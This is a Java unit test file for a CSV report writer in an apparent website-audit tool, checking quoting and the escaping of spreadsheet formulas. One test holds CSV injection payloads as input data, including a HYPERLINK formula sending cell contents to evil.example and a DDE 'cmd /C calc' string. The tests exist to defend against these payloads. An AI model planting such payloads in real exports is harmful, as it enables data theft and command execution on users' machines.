package org.zhanqun.audit.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringWriter;
import java.math.BigDecimal;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.zhanqun.audit.Audit;
import org.zhanqun.audit.AuditRequest;
import org.zhanqun.audit.AuditResult;
import org.zhanqun.audit.SiteResult;
import org.zhanqun.audit.finding.Finding;
import org.zhanqun.audit.rule.RuleKind;
import org.zhanqun.audit.rule.Text;
import org.zhanqun.audit.testing.AuditRun;
import org.zhanqun.audit.testing.MiniCluster;

class CsvReportTest {

  @TempDir Path folder;

  @Test
  void quotesOnlyCellsWithCommasQuotesOrLineBreaks() {
    assertThat(CsvReport.line(List.of("plain 文本", "a, b", "say \"hi\"", "two\nlines")))
        .isEqualTo("plain 文本,\"a, b\",\"say \"\"hi\"\"\",\"two\nlines\"\r\n");
  }

  @Test
  void neutralisesCellsThatASpreadsheetWouldRunAsFormulas() {
    String line =
        CsvReport.line(
            List.of(
                "=HYPERLINK(\"https://evil.example/?\"&A1,\"点我\")",
                "+1+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(1,2)",
                "\t=1+1",
                "\r=1+1",
                "-5.00",
                "95.00",
                "正常文本 = 1"));

    assertThat(line)
        .isEqualTo(
            "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"点我\"\")\","
                + "'+1+cmd|' /C calc'!A0,"
                + "'-2+3,"
                + "\"'@SUM(1,2)\","
                + "'\t=1+1,"
                + "\"'\r=1+1\","
                + "-5.00,"
                + "95.00,"
                + "正常文本 = 1\r\n");
  }

  @Test
  void neutralisesAFormulaInAFindingsEvidence() {
    Finding finding =
        new Finding(
            "column-stale",
            RuleKind.DEDUCTION,
            "dep",
            "news",
            null,
            "https://www.example.gov.cn/dep/news/",
            new Text("=1+1", "@cmd"),
            null,
            "-found",
            new BigDecimal("5"),
            new BigDecimal("5"));
    SiteResult site =
        new SiteResult(
            "dep",
            new Text("部门", "Department"),
            "department",
            new BigDecimal("95.00"),
            "excellent",
            false,
            false,
            List.of(),
            false,
            null,
            null,
            null,
            List.of(),
            List.of(),
            List.of(finding));
    AuditResult result =
        new AuditResult(
            "cluster",
            "Asia/Shanghai",
            MiniCluster.AS_OF,
            "national-2019.1",
            Optional.empty(),
            List.of(site),
            List.of("dep"),
            List.of(),
            List.of());
    StringWriter out = new StringWriter();

    new CsvReport().write(result, out);

    assertThat(out.toString().split("\r\n")[1]).endsWith(",5,5,,'-found,'=1+1,'@cmd");
  }

  @Test
  void writesAHeaderAndOneRowPerFindingWithItsSiteBeside() {
    MiniCluster cluster =
        MiniCluster.complete(folder).remove("news/fresh-news.zh-CN.md").item("news", "n", 20);
    StringWriter out = new StringWriter();

    new CsvReport()
        .write(
            new Audit()
                .run(AuditRequest.of(cluster.read(), AuditRun.DEFAULT_RULES, MiniCluster.AS_OF)),
            out);

    String[] lines = out.toString().split("\r\n");
    assertThat(lines[0]).isEqualTo("\uFEFF" + String.join(",", CsvReport.COLUMNS));
    assertThat(lines)
        .anySatisfy(
            l ->
                assertThat(l)
                    .startsWith("2026-11-16,national-2019.1,dep,95.00,excellent,false,false,")
                    .contains(
                        ",column-stale,deduction,news,,,https://www.example.gov.cn/dep/news/,5,5,")
                    .endsWith(
                        ",\"last update 2026-10-27, 20 days before 2026-11-16, limit 14 days (14 days)\""));
  }
}
